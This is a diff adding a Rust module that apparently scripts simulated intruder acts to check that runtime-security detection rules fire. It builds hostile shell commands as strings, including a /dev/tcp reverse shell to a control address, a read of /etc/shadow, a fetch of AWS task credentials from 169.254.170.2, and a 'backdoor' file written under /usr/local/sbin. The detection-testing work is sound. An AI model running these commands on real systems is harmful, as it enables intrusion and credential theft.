@@ -1,0 +1,135 @@
+//! What the intruder does, which rule must see it, and what the machine must offer for it.
+
+use std::fs::{self, File};
+use std::path::Path;
+
+use crate::config;
+use crate::fargate::task::Task;
+
+/// What this machine offers to an intruder.
+#[derive(Debug)]
+pub(super) struct Ground {
+    /// Containers, or at least namespaces of the task's own.
+    is_private: bool,
+    /// Real containers: files and programs are the image's.
+    is_contained: bool,
+    has_bash: bool,
+    headquarters: String,
+}
+
+impl Ground {
+    /// Looks around.
+    pub(super) fn look(task: &Task, is_contained: bool) -> Self {
+        let is_private = !task
+            .limits()
+            .iter()
+            .any(|limit| limit.contains("no namespaces"));
+        Self {
+            is_private,
+            is_contained,
+            has_bash: is_contained || config::find_program("bash").is_some(),
+            headquarters: task
+                .address_of(super::intruder::HEADQUARTERS)
+                .unwrap_or_default(),
+        }
+    }
+}
+
+/// One act.
+#[derive(Debug)]
+pub(super) struct Act {
+    /// What a person would say.
+    pub(super) title: &'static str,
+    /// The rule that must match.
+    pub(super) rule: &'static str,
+    /// What the shell inside the web server is told, or why it cannot be.
+    pub(super) script: Result<String, String>,
+}
+
+/// All acts, in order.
+pub(super) fn all(ground: &Ground) -> Vec<Act> {
+    vec![
+        Act {
+            title: "runs a shell through the search form",
+            rule: "Shell spawned by a server process",
+            script: Ok("id".to_owned()),
+        },
+        Act {
+            title: "reads a file with secrets",
+            rule: "Sensitive file read by an untrusted program",
+            script: sensitive_file(ground).map(|path| format!("cat {path}")),
+        },
+        Act {
+            title: "drops a program into /dev/shm and runs it",
+            rule: "Program run from a temporary or shared-memory place",
+            script: drop_and_run(ground),
+        },
+        Act {
+            title: "writes below a directory of programs",
+            rule: "File written below a binary directory",
+            script: private(ground, "/usr/local/sbin is the machine's own here")
+                .map(|()| "echo backdoor >/usr/local/sbin/backdoor".to_owned()),
+        },
+        Act {
+            title: "ties a shell to a socket",
+            rule: "Shell or interpreter with its input and output on a socket",
+            script: bash(ground).map(|()| {
+                let address = ground.headquarters.replace(':', "/");
+                format!("bash -c 'sh >&/dev/tcp/{address} 0>&1'")
+            }),
+        },
+        Act {
+            title: "asks for the task's credentials",
+            rule: "Contact with the task credential endpoint by an unexpected program",
+            script: bash(ground)
+                .and_then(|()| private(ground, "169.254.170.2 needs a network namespace"))
+                .map(|()| {
+                    "bash -c 'exec 3<>/dev/tcp/169.254.170.2/80; \
+                     printf \"GET $AWS_CONTAINER_CREDENTIALS_RELATIVE_URI HTTP/1.0\\r\\n\\r\\n\" >&3; \
+                     cat <&3'"
+                        .to_owned()
+                }),
+        },
+    ]
+}
+
+fn sensitive_file(ground: &Ground) -> Result<&'static str, String> {
+    let is_readable = |path: &&str| ground.is_contained || File::open(path).is_ok();
+    ["/etc/shadow", "/etc/pam.conf"]
+        .into_iter()
+        .find(is_readable)
+        .ok_or_else(|| "no file with secrets can be read here".to_owned())
+}
+
+fn drop_and_run(ground: &Ground) -> Result<String, String> {
+    if !ground.is_private {
+        let is_noexec = fs::read_to_string("/proc/mounts")
+            .unwrap_or_default()
+            .lines()
+            .any(|line| line.contains(" /dev/shm ") && line.contains("noexec"));
+        if is_noexec || !Path::new("/dev/shm").is_dir() {
+            return Err("/dev/shm takes no programs here".to_owned());
+        }
+    }
+    // A name of our own: without namespaces this is the machine's directory.
+    let path = format!("/dev/shm/demo-{}", std::process::id());
+    Ok(format!(
+        "cp /bin/true {path} && chmod 755 {path} && {path}; rm -f {path}"
+    ))
+}
+
+fn private(ground: &Ground, why: &str) -> Result<(), String> {
+    if ground.is_private {
+        Ok(())
+    } else {
+        Err(why.to_owned())
+    }
+}
+
+fn bash(ground: &Ground) -> Result<(), String> {
+    if ground.has_bash {
+        Ok(())
+    } else {
+        Err("`bash` is not installed".to_owned())
+    }
+}
